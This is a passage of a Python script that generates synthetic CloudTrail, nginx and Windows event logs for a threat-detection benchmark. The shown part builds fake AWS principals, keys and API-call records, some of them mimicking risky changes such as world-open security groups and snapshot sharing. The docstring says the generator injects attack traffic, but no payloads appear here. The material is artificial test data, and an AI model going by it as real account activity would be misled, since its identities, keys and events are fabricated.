#!/usr/bin/env python3
"""Synthetic but realistic event streams for the detection benchmark.

    gen.py cloudtrail|nginx|windows --mb N [--seed S] [--out FILE]

Writes N MiB (at least; the last event is finished) of one kind of input:

  cloudtrail  CloudTrail records, one compact JSON object a line (the shape
              of the records in S3 log files or CloudWatch Logs), 1.3 KB each:
              42 services and 286 API calls, the mix dominated, as in real
              accounts, by STS, KMS, S3, EC2 Describe*, CloudWatch Logs and
              ECR; IAMUser, AssumedRole, AWSService, Root and federated
              identities; errors on about 3% of calls.
  nginx       combined access log lines of a web shop with an API and static
              assets, browsers, bots, monitoring and API clients; about 0.4%
              of requests are scans and attacks (SQL injection, traversal,
              XSS, Log4Shell, web shells, scanner user agents).
  windows     Windows events in the JSON shape of SigmaHQ's regression data
              ({"Event":{"System":{...},"EventData":{...}}}), one compact
              object a line: mostly Sysmon process creation (EventID 1), the
              other Sysmon ids, Security 4624/4625/4672/4688 and PowerShell
              4104; a few in a thousand are attack behaviour that SigmaHQ
              rules are written for.

The output is a function of (kind, seed) only: a smaller file is a prefix of
a larger one with the same seed. Python 3 standard library only.
"""

import argparse
import bisect
import hashlib
import json
import random
import sys
import time

ENC = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False, check_circular=False)
dumps = ENC.encode

R = random.Random()
rand = R.random
randrange = R.randrange
choice = R.choice
getrandbits = R.getrandbits


class Weighted:
    """Choice from (item, weight) pairs in O(log n)."""

    def __init__(self, pairs):
        self.items = [p[0] for p in pairs]
        self.cum = []
        t = 0.0
        for p in pairs:
            t += p[1]
            self.cum.append(t)
        self.total = t

    def pick(self):
        return self.items[bisect.bisect_right(self.cum, rand() * self.total)]


def uuid4():
    b = getrandbits(128)
    h = "%032x" % b
    return "%s-%s-4%s-%x%s-%s" % (h[0:8], h[8:12], h[13:16], 8 + (b >> 62 & 3), h[17:20], h[20:32])


UPPER_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def key_id(prefix, n=16):
    return prefix + "".join(UPPER_ALNUM[getrandbits(5)] for _ in range(n))


def hexid(n):
    return "%0*x" % (n, getrandbits(4 * n))


def public_ip():
    while True:
        a = randrange(1, 224)
        if a in (10, 127, 169, 172, 192, 100, 0):
            continue
        return "%d.%d.%d.%d" % (a, randrange(256), randrange(256), randrange(1, 255))


class Clock:
    """Event time advancing by exponential gaps; text forms cached per second."""

    def __init__(self, start, rate):
        self.t = start
        self.rate = rate
        self.sec = -1
        self.iso = self.clf = self.day = ""

    def tick(self):
        self.t += R.expovariate(self.rate)
        s = int(self.t)
        if s != self.sec:
            self.sec = s
            g = time.gmtime(s)
            self.iso = time.strftime("%Y-%m-%dT%H:%M:%S", g)
            self.day = time.strftime("%Y-%m-%d %H:%M:%S", g)
            self.clf = time.strftime("%d/%b/%Y:%H:%M:%S +0000", g)
        return self.t

    def frac(self, digits):
        return ("%.*f" % (digits, self.t - self.sec))[1:]


START = 1793491200  # 2026-11-01T00:00:00Z


# --------------------------------------------------------------------------
# CloudTrail
# --------------------------------------------------------------------------

ACCOUNTS = ["418295730614", "730335205862", "092184447351", "561037298840",
            "284913076625", "905418263377", "147258369012", "663920185734"]
ACCOUNT_W = Weighted([(a, w) for a, w in zip(ACCOUNTS, [30, 22, 14, 10, 9, 7, 5, 3])])
REGIONS = Weighted([("us-east-1", 38), ("us-west-2", 18), ("eu-west-1", 12), ("eu-central-1", 9),
                    ("ap-southeast-1", 5), ("ap-northeast-1", 5), ("us-east-2", 5),
                    ("ap-south-1", 3), ("sa-east-1", 2), ("ca-central-1", 2), ("eu-north-1", 1)])

FIRST = ["alice", "bob", "carol", "dmitri", "elena", "farid", "grace", "hiro", "ines", "jamal",
         "kate", "liang", "maria", "nikhil", "olga", "pedro", "quinn", "rahul", "sofia", "tomas",
         "uma", "victor", "wei", "ximena", "yusuf", "zoe"]
LAST = ["chen", "smith", "garcia", "ivanova", "khan", "mueller", "tanaka", "rossi", "okafor",
        "nguyen", "silva", "kowalski", "haddad", "johansson", "patel", "dubois"]
HUMANS = sorted({"%s.%s" % (f, l) for f in FIRST for l in LAST})
R.seed(7)  # the people are the same for every kind and seed; main() reseeds
HUMANS = R.sample(HUMANS, 60)
SVC_USERS = ["ci-deploy", "terraform", "backup-agent", "datadog-integration", "splunk-reader",
             "s3-sync", "legacy-app", "jenkins", "github-actions", "monitoring"]
ROLES = ["OrganizationAccountAccessRole", "eks-node-group-role", "eks-cluster-role",
         "lambda-orders-exec", "lambda-thumbnailer-exec", "lambda-etl-exec", "ecs-task-api",
         "ecs-task-worker", "ecsTaskExecutionRole", "GitHubActionsDeploy", "TerraformApply",
         "AWSReservedSSO_AdministratorAccess_3c2f91a8d07be6f4",
         "AWSReservedSSO_ReadOnlyAccess_9b1e73d2c4a85f06",
         "AWSReservedSSO_PowerUserAccess_5d8a06c1e9f2b374", "DatadogIntegrationRole",
         "SecurityAuditRole", "ec2-web-instance-role", "ec2-batch-instance-role",
         "AWSServiceRoleForConfig", "AWSServiceRoleForAutoScaling", "AWSServiceRoleForECS",
         "AWSServiceRoleForElasticLoadBalancing", "AWSServiceRoleForSecurityHub",
         "AWSServiceRoleForAmazonGuardDuty", "AWSServiceRoleForTrustedAdvisor",
         "AWSServiceRoleForSSM", "karpenter-controller", "external-dns", "aws-load-balancer-controller",
         "cluster-autoscaler", "ebs-csi-driver", "fluent-bit", "BackupServiceRole", "glue-etl-role",
         "firehose-delivery-role", "rds-monitoring-role", "cross-account-auditor", "vpc-flow-logs-role"]
ROLE_W = Weighted([(r, w) for r, w in zip(ROLES, [3, 30, 6, 12, 6, 8, 15, 12, 10, 5, 4, 5, 6, 3, 8, 2,
                                                  20, 8, 6, 3, 3, 3, 2, 2, 1, 2, 6, 3, 4, 3, 3, 5, 2,
                                                  3, 2, 2, 2, 1])])
BUCKETS = ["acme-prod-assets", "acme-prod-logs", "acme-data-lake-raw", "acme-data-lake-curated",
           "acme-terraform-state", "acme-backups-eu", "acme-cloudtrail-archive", "acme-ml-artifacts",
           "acme-static-website", "acme-invoices-pdf", "acme-customer-uploads", "acme-athena-results",
           "cf-templates-1x9k2d8q7rzp-us-east-1", "aws-glue-assets-418295730614-us-east-1",
           "elasticbeanstalk-us-west-2-730335205862", "acme-ci-cache"]
BUCKET_W = Weighted([(b, w) for b, w in zip(BUCKETS, [25, 15, 20, 10, 4, 3, 3, 5, 8, 4, 8, 6, 1, 2, 1, 5])])
S3_PREFIXES = ["images/products/", "uploads/2026/11/", "raw/orders/dt=2026-11-", "curated/events/",
               "exports/", "thumbnails/", "static/js/", "models/", "athena/queries/", "logs/AWSLogs/"]
S3_EXT = [".jpg", ".png", ".json.gz", ".parquet", ".csv", ".pdf", ".js", ".gz", ".tar.gz", ".txt"]
FUNCTIONS = ["orders-api", "thumbnailer", "etl-nightly", "slack-notifier", "auth-authorizer",
             "invoice-render", "stream-processor", "cost-report", "log-shipper", "cache-warmer"]
TABLES = ["orders", "sessions", "users", "inventory", "carts", "feature-flags", "idempotency-keys"]
CLUSTERS = ["prod-eks-1", "staging-eks", "data-eks"]
LOG_GROUPS = ["/aws/lambda/orders-api", "/aws/lambda/thumbnailer", "/aws/eks/prod-eks-1/cluster",
              "/ecs/api", "/ecs/worker", "/aws/rds/cluster/orders-db/postgresql", "/aws/vpc/flowlogs",
              "/aws/codebuild/web-build", "/aws/lambda/etl-nightly", "/aws/containerinsights/prod-eks-1/application"]
PARAMS = ["/prod/api/db_url", "/prod/api/redis_url", "/prod/worker/queue_url", "/staging/api/db_url",
          "/shared/datadog/api_key", "/prod/feature-flags", "/ami/amazon-linux-2023/latest",
          "/aws/service/eks/optimized-ami/1.29/amazon-linux-2/recommended/image_id"]
SECRETS = ["prod/orders-db/master", "prod/stripe/api-key", "prod/jwt-signing-key", "staging/orders-db/master",
           "prod/sendgrid", "shared/github-app-key"]
REPOS = ["api", "worker", "web", "etl", "nginx-ingress", "fluent-bit", "datadog-agent"]
DB_INSTANCES = ["orders-db-instance-1", "orders-db-instance-2", "analytics-replica", "legacy-mysql"]
STACKS = ["network-prod", "eks-prod", "api-prod", "data-lake", "monitoring", "cdk-toolkit"]
AZ = "abc"

UA_SDK = Weighted([
    ("aws-cli/2.15.30 Python/3.11.8 Linux/5.10.209-198.858.amzn2.x86_64 exe/x86_64.amzn.2 prompt/off command/{cmd}", 8),
    ("aws-cli/2.17.5 Python/3.11.9 Darwin/23.5.0 exe/x86_64 prompt/off command/{cmd}", 4),
    ("aws-cli/1.29.62 Python/3.9.18 Linux/6.1.61-85.141.amzn2023.x86_64 botocore/1.31.62", 2),
    ("Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.10.213-201.855.amzn2.x86_64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython exec-env/AWS_Lambda_python3.11 cfg/retry-mode#legacy Botocore/1.34.69", 5),
    ("Boto3/1.28.85 md/Botocore#1.31.85 ua/2.0 os/linux#6.1.72-96.166.amzn2023.x86_64 md/arch#x86_64 lang/python#3.10.13 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.85", 5),
    ("aws-sdk-go-v2/1.25.2 os/linux lang/go#1.21.6 md/GOOS#linux md/GOARCH#amd64 api/{api}#1.28.1", 10),
    ("aws-sdk-go/1.50.10 (go1.21.6; linux; amd64)", 10),
    ("aws-sdk-java/2.25.11 Linux/5.10.213-201.855.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy", 6),
    ("aws-sdk-nodejs/2.1574.0 linux/v18.19.1 exec-env/AWS_Lambda_nodejs18.x callback", 4),
    ("aws-sdk-js/3.535.0 ua/2.0 os/linux#5.10.213-201.855.amzn2.x86_64 lang/js md/nodejs#20.11.1 api/{api}#3.535.0", 5),
    ("APN/1.0 HashiCorp/1.0 Terraform/1.7.4 (+https://www.terraform.io) terraform-provider-aws/5.40.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.2 os/linux lang/go#1.21.6 md/GOOS#linux md/GOARCH#amd64 api/{api}#1.28.1", 2),
    ("Datadog", 3),
    ("kubernetes/v1.29.1-eks-b9c9ed7 (linux/amd64) kubernetes/b9c9ed7", 2),
    ("Botocore/1.34.69 ua/2.0 os/linux#5.10.0 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy", 2),
])
UA_CONSOLE = Weighted([
    ("console.amazonaws.com", 5), ("console.ec2.amazonaws.com", 2), ("signin.amazonaws.com", 1),
    ("AWS Internal", 2), ("S3Console/0.4", 1),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 3),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15", 1),
])
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
]
TLS = [{"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256"},
       {"tlsVersion": "TLSv1.2", "cipherSuite": "ECDHE-RSA-AES128-GCM-SHA256"},
       {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_256_GCM_SHA384"}]
SERVICE_HOST = {"monitoring": "monitoring", "s3": "s3", "ecr": "api.ecr", "ssm": "ssm"}


class Principal:
    __slots__ = ("kind", "name", "account", "ident", "ua", "ips", "human")


def make_principals():
    out = []
    for acct in ACCOUNTS:
        for name in R.sample(HUMANS, 18) + SVC_USERS:
            p = Principal()
            p.kind, p.name, p.account = "IAMUser", name, acct
            p.human = name in HUMANS
            pid = key_id("AIDA", 17)
            p.ident = {"type": "IAMUser", "principalId": pid,
                       "arn": "arn:aws:iam::%s:user/%s" % (acct, name), "accountId": acct,
                       "accessKeyId": key_id("AKIA"), "userName": name}
            p.ips = [public_ip() for _ in range(3)]
            out.append(p)
    return out


def principal_tables():
    users = make_principals()
    role_ids = {(a, r): key_id("AROA", 17) for a in ACCOUNTS for r in ROLES}
    sessions = []
    for i in range(3000):
        acct = ACCOUNT_W.pick()
        role = ROLE_W.pick()
        if role.startswith("AWSReservedSSO"):
            sess = choice(HUMANS) + "@acme-corp.com"
        elif role.startswith("ec2-"):
            sess = "i-0" + hexid(16)
        elif role.startswith("lambda-"):
            sess = role.replace("-exec", "")
        elif role.startswith("eks-node") or role in ("karpenter-controller", "fluent-bit", "ebs-csi-driver"):
            sess = "i-0" + hexid(16) if role.startswith("eks-node") else "botocore-session-%d" % randrange(1700000000, 1790000000)
        elif role.startswith("AWSServiceRole"):
            sess = role[len("AWSServiceRoleFor"):]
        else:
            sess = choice(["botocore-session-%d" % randrange(1700000000, 1790000000),
                           "aws-go-sdk-%d" % randrange(10 ** 18, 10 ** 19), "GitHubActions",
                           "terraform-run-%s" % hexid(8), "aws-sdk-js-%d" % randrange(10 ** 12, 10 ** 13)])
        rid = role_ids[(acct, role)]
        created = "2026-10-31T%02d:%02d:%02dZ" % (randrange(24), randrange(60), randrange(60))
        ident = {"type": "AssumedRole", "principalId": "%s:%s" % (rid, sess),
                 "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role, sess), "accountId": acct,
                 "accessKeyId": key_id("ASIA"),
                 "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": rid,
                                                      "arn": "arn:aws:iam::%s:role/%s" % (acct, role),
                                                      "accountId": acct, "userName": role},
                                    "webIdFederationData": {},
                                    "attributes": {"creationDate": created,
                                                   "mfaAuthenticated": "true" if role.startswith("AWSReservedSSO") and rand() < .7 else "false"}}}
        if role.startswith("AWSServiceRole") or role in ("BackupServiceRole", "firehose-delivery-role"):
            ident["invokedBy"] = {"AWSServiceRoleForConfig": "config.amazonaws.com",
                                  "AWSServiceRoleForAutoScaling": "autoscaling.amazonaws.com",
                                  "AWSServiceRoleForECS": "ecs.amazonaws.com",
                                  "AWSServiceRoleForElasticLoadBalancing": "elasticloadbalancing.amazonaws.com",
                                  "AWSServiceRoleForSecurityHub": "securityhub.amazonaws.com",
                                  "AWSServiceRoleForAmazonGuardDuty": "guardduty.amazonaws.com",
                                  "AWSServiceRoleForTrustedAdvisor": "trustedadvisor.amazonaws.com",
                                  "AWSServiceRoleForSSM": "ssm.amazonaws.com",
                                  "BackupServiceRole": "backup.amazonaws.com",
                                  "firehose-delivery-role": "firehose.amazonaws.com"}[role]
        p = Principal()
        p.kind, p.name, p.account, p.ident = "AssumedRole", role, acct, ident
        p.human = role.startswith("AWSReservedSSO")
        p.ips = [public_ip()] if p.human else ["10.%d.%d.%d" % (randrange(256), randrange(256), randrange(1, 255))]
        sessions.append(p)
    return users, sessions


USERS, SESSIONS = [], []


def identity():
    """A caller for an ordinary API call: mostly role sessions."""
    r = rand()
    if r < 0.68:
        return choice(SESSIONS)
    return choice(USERS)


def user_agent(p, api, cmd):
    if "invokedBy" in p.ident:
        return p.ident["invokedBy"]
    if p.human and rand() < 0.45:
        return UA_CONSOLE.pick()
    ua = UA_SDK.pick()
    if "{" in ua:
        ua = ua.replace("{api}", api).replace("{cmd}", cmd)
    return ua


def source_ip(p):
    if "invokedBy" in p.ident:
        return p.ident["invokedBy"] if rand() < 0.8 else "AWS Internal"
    return choice(p.ips)


def arn(svc, region, acct, res):
    return "arn:aws:%s:%s:%s:%s" % (svc, region, acct, res)


def snake(name):
    out = []
    for i, c in enumerate(name):
        if c.isupper() and i:
            out.append("-")
        out.append(c.lower())
    return "".join(out)


# Request builders: (ev, p, region) -> (requestParameters, responseElements, resources)
def b_null(ev, p, region):
    return None, None, None


def b_assume_role(ev, p, region):
    role = ROLE_W.pick()
    acct = p.account if rand() < .85 else ACCOUNT_W.pick()
    role_arn = "arn:aws:iam::%s:role/%s" % (acct, role)
    sess = choice(["botocore-session-%d" % randrange(1700000000, 1790000000), "aws-go-sdk-%d" % randrange(10 ** 18, 10 ** 19),
                   "i-0" + hexid(16), "GitHubActions", "eks-prod-eks-1-%s" % hexid(10)])
    req = {"roleArn": role_arn, "roleSessionName": sess, "durationSeconds": choice([900, 3600, 3600, 43200])}
    if rand() < .3:
        req["externalId"] = hexid(24)
    resp = {"credentials": {"accessKeyId": key_id("ASIA"), "sessionToken": "IQoJb3JpZ2luX2VjE" + hexid(40),
                            "expiration": "Nov %d, 2026, %d:%02d:%02d PM" % (randrange(1, 29), randrange(1, 12), randrange(60), randrange(60))},
            "assumedRoleUser": {"assumedRoleId": "AROA%s:%s" % (key_id("", 17), sess),
                                "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role, sess)}}
    ev["sharedEventID"] = uuid4()
    return req, resp, [{"accountId": acct, "type": "AWS::IAM::Role", "ARN": role_arn}]


def b_web_identity(ev, p, region):
    req, resp, res = b_assume_role(ev, p, region)
    req.pop("externalId", None)
    req["providerId"] = "arn:aws:iam::%s:oidc-provider/oidc.eks.%s.amazonaws.com/id/%s" % (p.account, region, hexid(32).upper())
    resp["subjectFromWebIdentityToken"] = "system:serviceaccount:%s" % choice(["kube-system:aws-node", "karpenter:karpenter", "default:api", "logging:fluent-bit"])
    resp["audience"] = "sts.amazonaws.com"
    return req, resp, res


def b_kms(ev, p, region):
    key = arn("kms", region, p.account, "key/%s" % choice(KMS_KEYS))
    ctx = choice([{"aws:s3:arn": "arn:aws:s3:::%s/%s%s" % (BUCKET_W.pick(), choice(S3_PREFIXES), hexid(12))},
                  {"SecretARN": arn("secretsmanager", region, p.account, "secret:%s-%s" % (choice(SECRETS), hexid(6))), "SecretVersionId": uuid4()},
                  {"aws:lambda:FunctionArn": arn("lambda", region, p.account, "function:%s" % choice(FUNCTIONS))},
                  {"aws:ebs:id": "vol-0" + hexid(16)},
                  {"aws:logs:arn": arn("logs", region, p.account, "log-group:%s" % choice(LOG_GROUPS))}])
    req = {"encryptionContext": ctx, "encryptionAlgorithm": "SYMMETRIC_DEFAULT"}
    if ev["eventName"] == "GenerateDataKey":
        req = {"keyId": key, "encryptionContext": ctx, "keySpec": "AES_256"}
    elif ev["eventName"] in ("DescribeKey", "ListAliases"):
        req = {"keyId": key} if ev["eventName"] == "DescribeKey" else None
    return req, None, [{"accountId": p.account, "type": "AWS::KMS::Key", "ARN": key}]


KMS_KEYS = []
VPCE = {}


def b_s3(ev, p, region):
    bucket = BUCKET_W.pick()
    name = ev["eventName"]
    host = "%s.s3.%s.amazonaws.com" % (bucket, region)
    req = {"bucketName": bucket, "Host": host}
    res = [{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + bucket}]
    ev["eventCategory"] = "Management"
    if name in ("GetObject", "PutObject", "HeadObject", "DeleteObject", "CopyObject"):
        key = "%s%s%s" % (choice(S3_PREFIXES), hexid(randrange(8, 20)), choice(S3_EXT))
        req["key"] = key
        res.insert(0, {"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (bucket, key)})
        ev["eventCategory"] = "Data"
        ev["additionalEventData"] = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                     "bytesTransferredIn": 0 if name != "PutObject" else randrange(100, 5000000),
                                     "x-amz-id-2": hexid(48), "bytesTransferredOut": randrange(100, 5000000) if name == "GetObject" else 0}
    elif name in ("ListObjects", "ListObjectsV2"):
        req.update({"list-type": "2", "prefix": choice(S3_PREFIXES), "max-keys": "1000", "encoding-type": "url"})
        ev["eventCategory"] = "Data"
    elif name == "ListBuckets":
        req = {"Host": "s3.%s.amazonaws.com" % region}
        res = None
    elif name == "PutBucketVersioning":
        status = "Suspended" if rand() < .3 else "Enabled"
        req["VersioningConfiguration"] = {"Status": status, "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}
        req["versioning"] = ""
    elif name == "PutBucketPolicy":
        req["bucketPolicy"] = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "logging.s3.amazonaws.com"},
                                                                      "Action": "s3:PutObject", "Resource": "arn:aws:s3:::%s/*" % bucket}]}
        req["policy"] = ""
    else:
        req[name[3:].lower() if name.startswith(("Get", "Put")) else "acl"] = ""
    if ev["eventCategory"] == "Data":
        ev["readOnly"] = name in ("GetObject", "HeadObject", "ListObjects", "ListObjectsV2")
        ev["managementEvent"] = False
    return req, None, res


def b_ec2_describe(ev, p, region):
    name = ev["eventName"]
    r = rand()
    if name == "DescribeInstances" and r < .5:
        req = {"instancesSet": {"items": [{"instanceId": "i-0" + hexid(16)} for _ in range(randrange(1, 4))]}, "filterSet": {}}
    elif r < .7:
        req = {"filterSet": {"items": [{"name": choice(["vpc-id", "tag:Name", "instance-state-name", "group-id", "subnet-id"]),
                                        "valueSet": {"items": [{"value": choice(["vpc-0" + hexid(17), "running", "prod-web", "sg-0" + hexid(17)])}]}}]}}
    else:
        req = {"maxResults": choice([100, 200, 1000])}
        if rand() < .3:
            req["nextToken"] = "eyJ2IjoiMiIsImMiOi" + hexid(60)
    return req, None, None


def b_ec2_write(ev, p, region):
    name = ev["eventName"]
    iid = "i-0" + hexid(16)
    if name == "RunInstances":
        req = {"instancesSet": {"items": [{"imageId": "ami-0" + hexid(16), "minCount": 1, "maxCount": 1}]},
               "instanceType": choice(["m6i.large", "c6g.xlarge", "t3.medium", "r6i.2xlarge"]), "blockDeviceMapping": {},
               "monitoring": {"enabled": False}, "disableApiTermination": False, "disableApiStop": False,
               "clientToken": uuid4(), "launchTemplate": {"launchTemplateId": "lt-0" + hexid(16), "version": "$Latest"}}
        resp = {"requestId": uuid4(), "reservationId": "r-0" + hexid(16), "ownerId": p.account,
                "instancesSet": {"items": [{"instanceId": iid, "currentState": {"code": 0, "name": "pending"},
                                            "privateIpAddress": "10.%d.%d.%d" % (randrange(256), randrange(256), randrange(255))}]}}
        return req, resp, None
    if name in ("TerminateInstances", "StartInstances", "StopInstances"):
        req = {"instancesSet": {"items": [{"instanceId": iid}]}}
        if name == "StopInstances":
            req["force"] = False
        return req, {"requestId": uuid4(), "instancesSet": {"items": [{"instanceId": iid, "currentState": {"code": 32, "name": "shutting-down"},
                                                                          "previousState": {"code": 16, "name": "running"}}]}}, None
    if name == "CreateTags":
        return ({"resourcesSet": {"items": [{"resourceId": choice([iid, "vol-0" + hexid(16), "eni-0" + hexid(16)])}]},
                 "tagSet": {"items": [{"key": choice(["Name", "karpenter.sh/nodepool", "kubernetes.io/cluster/prod-eks-1", "CostCenter"]),
                                       "value": choice(["prod-web", "default", "owned", "1234"])}]}},
                {"requestId": uuid4(), "_return": True}, None)
    if name == "ModifyInstanceAttribute":
        if rand() < .4:
            req = {"instanceId": iid, "attribute": "userData", "value": "<sensitiveDataRemoved>"}
        else:
            req = {"instanceId": iid, "instanceType": {"value": choice(["m6i.xlarge", "t3.large"])}}
        return req, {"requestId": uuid4(), "_return": True}, None
    if name in ("AuthorizeSecurityGroupIngress", "RevokeSecurityGroupIngress", "AuthorizeSecurityGroupEgress"):
        port = choice([22, 443, 3389, 5432, 8080])
        req = {"groupId": "sg-0" + hexid(17), "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": port, "toPort": port, "groups": {},
                                                                            "ipRanges": {"items": [{"cidrIp": choice(["0.0.0.0/0", "10.0.0.0/8", public_ip() + "/32"])}]},
                                                                            "ipv6Ranges": {}, "prefixListIds": {}}]}}
        return req, {"requestId": uuid4(), "_return": True, "securityGroupRuleSet": {"items": [{"groupOwnerId": p.account, "groupId": req["groupId"],
                                                                                               "securityGroupRuleId": "sgr-0" + hexid(16), "isEgress": False,
                                                                                               "ipProtocol": "tcp", "fromPort": port, "toPort": port}]}}, None
    if name in ("CreateNetworkInterface", "DeleteNetworkInterface"):
        eni = "eni-0" + hexid(16)
        if name == "DeleteNetworkInterface":
            return {"networkInterfaceId": eni}, {"requestId": uuid4(), "_return": True}, None
        return ({"subnetId": "subnet-0" + hexid(16), "description": "aws-K8S-" + iid, "groupSet": {"items": [{"groupId": "sg-0" + hexid(17)}]},
                 "privateIpAddressesSet": {}, "ipv6AddressCount": 0, "clientToken": uuid4()},
                {"requestId": uuid4(), "networkInterface": {"networkInterfaceId": eni, "subnetId": "subnet-0" + hexid(16), "vpcId": "vpc-0" + hexid(17),
                                                            "availabilityZone": region + choice(AZ), "ownerId": p.account, "status": "pending",
                                                            "privateIpAddress": "10.%d.%d.%d" % (randrange(256), randrange(256), randrange(255))}}, None)
    if name == "CreateSnapshot":
        return ({"volumeId": "vol-0" + hexid(16), "description": "Created by AWS Backup"},
                {"requestId": uuid4(), "snapshotId": "snap-0" + hexid(16), "status": "pending", "startTime": 1793491200000}, None)
    if name == "ModifySnapshotAttribute":
        return ({"snapshotId": "snap-0" + hexid(16), "createVolumePermission": {"add": {"items": [{"userId": choice(ACCOUNTS)}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"},
                {"requestId": uuid4(), "_return": True}, None)
    if name == "CreateRoute":
        return ({"routeTableId": "rtb-0" + hexid(16), "destinationCidrBlock": "0.0.0.0/0", "gatewayId": "igw-0" + hexid(16)},
                {"requestId": uuid4(), "_return": True}, None)
    if name == "CreateNetworkAclEntry":
        return ({"networkAclId": "acl-0" + hexid(16), "ruleNumber": randrange(100, 200), "egress": False, "ruleAction": "allow",
                 "icmpTypeCode": {}, "portRange": {"from": 22, "to": 22}, "aclProtocol": "6", "cidrBlock": "0.0.0.0/0"},
                {"requestId": uuid4(), "_return": True}, None)
    if name in ("ImportKeyPair", "CreateKeyPair"):
        kn = "%s-%s" % (choice(HUMANS).split(".")[0], choice(["laptop", "bastion", "deploy"]))
        return {"keyName": kn}, {"requestId": uuid4(), "keyName": kn, "keyFingerprint": ":".join(hexid(2) for _ in range(16)), "keyPairId": "key-0" + hexid(16)}, None
    vol = "vol-0" + hexid(16)
    return {"volumeId": vol, "instanceId": iid, "device": "/dev/xvdf"}, {"requestId": uuid4(), "volumeId": vol, "status": "attaching"}, None


def b_iam(ev, p, region):
    name = ev["eventName"]
    user = choice(HUMANS + SVC_USERS)
    role = choice(ROLES)
    if name in ("GetRole", "ListAttachedRolePolicies", "ListRolePolicies", "TagRole"):
        return {"roleName": role}, None, None
    if name in ("GetPolicy", "GetPolicyVersion"):
        req = {"policyArn": "arn:aws:iam::%s:policy/%s" % (p.account, choice(["eks-node-extra", "s3-read-assets", "ci-deploy", "ReadOnlyPlus"]))}
        if name == "GetPolicyVersion":
            req["versionId"] = "v%d" % randrange(1, 9)
        return req, None, None
    if name in ("GetUser", "ListAccessKeys", "ListMFADevices", "GetLoginProfile"):
        return {"userName": user}, None, None
    if name == "CreateAccessKey":
        target = p.ident.get("userName", user) if rand() < .6 else user
        return ({"userName": target},
                {"accessKey": {"accessKeyId": key_id("AKIA"), "status": "Active", "userName": target, "createDate": "Nov 3, 2026 10:42:17 AM"}},
                None)
    if name in ("DeleteAccessKey", "UpdateAccessKey"):
        req = {"userName": user, "accessKeyId": key_id("AKIA")}
        if name == "UpdateAccessKey":
            req["status"] = "Inactive"
        return req, None, None
    if name in ("CreateUser", "CreateLoginProfile", "UpdateLoginProfile"):
        req = {"userName": user}
        if name == "CreateUser":
            return req, {"user": {"path": "/", "userName": user, "userId": key_id("AIDA", 17),
                                  "arn": "arn:aws:iam::%s:user/%s" % (p.account, user), "createDate": "Nov 3, 2026 10:42:17 AM"}}, None
        req["passwordResetRequired"] = True
        return req, None, None
    if name in ("CreateRole", "AttachRolePolicy", "PutRolePolicy", "PutUserPolicy", "CreatePolicyVersion"):
        if name == "AttachRolePolicy":
            return {"roleName": role, "policyArn": "arn:aws:iam::aws:policy/%s" % choice(["ReadOnlyAccess", "AmazonS3FullAccess", "AdministratorAccess", "CloudWatchAgentServerPolicy"])}, None, None
        doc = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": choice(["s3:GetObject", "sqs:SendMessage", "logs:PutLogEvents"]),
                                                                   "Resource": "*"}]})
        if name == "CreateRole":
            doc = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]})
            return ({"roleName": role + "-" + hexid(4), "assumeRolePolicyDocument": doc},
                    {"role": {"path": "/", "roleName": role + "-" + hexid(4), "roleId": key_id("AROA", 17),
                              "arn": "arn:aws:iam::%s:role/%s" % (p.account, role), "createDate": "Nov 3, 2026 10:42:17 AM"}}, None)
        key = "userName" if name == "PutUserPolicy" else "roleName"
        return {key: user if key == "userName" else role, "policyName": "inline-" + hexid(6), "policyDocument": doc}, None, None
    if name in ("DeleteSAMLProvider", "UpdateSAMLProvider"):
        return {"sAMLProviderArn": "arn:aws:iam::%s:saml-provider/AzureAD" % p.account}, None, None
    if name == "GetInstanceProfile":
        return {"instanceProfileName": choice(["ec2-web-instance-role", "eks-node-group-role"])}, None, None
    return ({"maxItems": 100} if rand() < .5 else None), None, None


def b_logs(ev, p, region):
    g = choice(LOG_GROUPS)
    name = ev["eventName"]
    if name == "CreateLogStream":
        return {"logGroupName": g, "logStreamName": "2026/11/%02d/[$LATEST]%s" % (randrange(1, 30), hexid(32))}, None, None
    if name in ("DescribeLogGroups", "DescribeLogStreams"):
        req = {"logGroupNamePrefix": g[:12]} if name == "DescribeLogGroups" else {"logGroupName": g, "orderBy": "LastEventTime", "descending": True, "limit": 50}
        return req, None, None
